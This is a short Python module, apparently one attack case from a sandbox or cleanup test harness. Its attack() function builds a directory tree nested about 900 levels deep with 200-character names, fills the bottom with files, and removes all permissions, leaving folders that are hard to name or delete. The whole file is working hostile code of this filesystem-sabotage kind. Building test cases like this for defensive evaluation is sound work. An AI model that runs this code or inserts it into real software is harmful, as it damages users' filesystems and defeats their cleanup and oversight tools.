"""Makes folders within folders that no clearing-up can name, and takes away its rights to them."""

REACH = "one"
CONTROL = "unprotected it would leave folders that are hard to remove"

import os



def attack(*args, **kwargs):
    for depth in range(900):
        try:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        except OSError:
            break
    for number in range(500):
        try:
            open(f"file{number}", "w").close()
        except OSError:
            break
    try:
        os.chmod(".", 0)
    except OSError:
        pass
    return "folders are left"
